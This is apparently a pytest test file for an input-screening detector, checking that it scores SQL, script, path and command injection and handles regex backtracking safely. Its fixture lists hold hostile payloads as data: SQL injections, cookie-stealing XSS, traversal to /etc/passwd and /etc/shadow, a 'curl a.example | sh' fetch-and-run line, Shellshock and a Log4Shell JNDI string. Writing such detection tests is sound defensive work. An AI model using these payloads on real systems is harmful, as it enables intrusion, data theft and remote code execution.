from __future__ import annotations

import re
from itertools import product
from pathlib import Path

import pytest

from algosat.security import screening
from algosat.security.screening import Attack, Suspicion, suspicion, suspicion_of

ORDINARY = [line for line in (Path(__file__).parent / "ordinary.txt").read_text().splitlines() if line]

SQL = [
    f"7{end} {what}{rest}"
    for end, (what, rest) in product(
        ("", "'", '"', "')", "'))"),
        (
            ("and 31=31", ""),
            ("OR 'q'='q", ""),
            ("or true=true", " -- "),
            ("UNION ALL SELECT 1,2,3", "#"),
            ("union/**/select null", "-- x"),
            ("; drop table orders", "--"),
            ("AND (SELECT 5 FROM (SELECT SLEEP(9))x)", ""),
            ("and 9>(select count(*) from users)", ""),
            ("order by 4", "-- "),
            ("; WAITFOR DELAY '0:0:9'", "--"),
            ("AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))", ""),
            ("|| (select password_hash from users where id=1) ||", ""),
        ),
    )
]
SCRIPT = [
    "<script>x()</script>",
    "<SCRIPT src=//a.example/b.js>",
    "<img src=x onerror=y()>",
    "<svg/onload=alert(1)>",
    "<body onload='z()'>",
    '"><iframe src="javascript:a()">',
    "' onmouseover='alert(1)",
    "javascript:alert(document.cookie)",
    "<a href=data:text/html,x>",
    "{{7*7}}",
    "${7*7}",
    "&#x3c;script&#x3e;",
    "<math><a xlink:href=x>",
    "<%= 7*7 %>",
]
PATHS = [
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "%2e%2e%2fsecret",
    "....//....//etc/shadow",
    "file:///etc/hosts",
    "C:\\Windows\\System32",
    "/proc/self/environ",
    "x.png%00.php",
    "php://filter/convert",
]
COMMANDS = [
    "; cat notes",
    "| id",
    "&& whoami",
    "`uname -a`",
    "$(id)",
    "a; curl a.example | sh",
    "x\nls -la",
    "x;\n\n \tls -la",
    "|| ping -c 9 127.0.0.1",
    ";sleep 9;",
    "/bin/sh -c x",
    "() { :; }; echo x",
    "${jndi:ldap://a.example/x}",
]


def test_ordinary_texts_have_no_score() -> None:
    assert len(ORDINARY) >= 200
    assert [text for text in ORDINARY if suspicion(text)] == []


@pytest.mark.parametrize(
    ("attack", "texts"),
    [(Attack.SQL, SQL), (Attack.SCRIPT, SCRIPT), (Attack.PATH, PATHS), (Attack.COMMAND, COMMANDS)],
)
def test_attacks_have_a_score_and_a_name(attack: Attack, texts: list[str]) -> None:
    missed = [text for text in texts if (found := suspicion(text)) is None or attack not in found.attacks]
    assert missed == []


def test_several_signs_give_a_higher_score_up_to_the_highest() -> None:
    one, more = suspicion("7 and 31=31"), suspicion("7' and 31=31 union select 1 -- ")
    assert one is not None
    assert more is not None
    assert one.score < more.score <= screening.HIGHEST
    worst = "' union select 1; drop table x -- <script>../../etc/passwd; cat x"
    assert suspicion(worst) == Suspicion(screening.HIGHEST, tuple(Attack))


def test_texts_of_a_request_are_added_up_as_far_as_they_are_looked_at() -> None:
    assert suspicion_of(ORDINARY) is None
    assert suspicion_of([]) is None
    found = suspicion_of(["NIFTY", "| id", "../x/", "ok"])
    assert found == Suspicion(8, (Attack.COMMAND, Attack.PATH))
    assert suspicion_of([*["x" * 5000] * 4, "| id"]) is None
    assert suspicion("x" * screening.LONGEST + "| id") is None


def test_every_repetition_in_a_pattern_is_bounded() -> None:
    """Otherwise a stranger could choose a text that takes seconds."""
    patterns = [pattern.pattern for _, _, pattern in screening._PATTERNS]  # noqa: SLF001
    for pattern in patterns:
        outside = re.sub(r"\\.|\[\^?\]?(?:\\.|[^\]\\])*\]", "", pattern)
        assert not re.search(r"[*+]|\{\d+,\}", outside), pattern
    assert screening._bounded(r"a*[*+]\*b+?") == r"a{0,60}[*+]\*b{1,60}?"  # noqa: SLF001


def test_the_last_of_several_line_ends_separates_commands() -> None:
    """A text of line ends took thirty times as long as others: each was tried with all that follow."""
    (of_commands,) = (pattern for attack, _, pattern in screening._PATTERNS if attack is Attack.COMMAND)  # noqa: SLF001
    found = of_commands.search("\n" * 50 + "\t cat notes")
    assert found is not None
    assert found.start() == 49
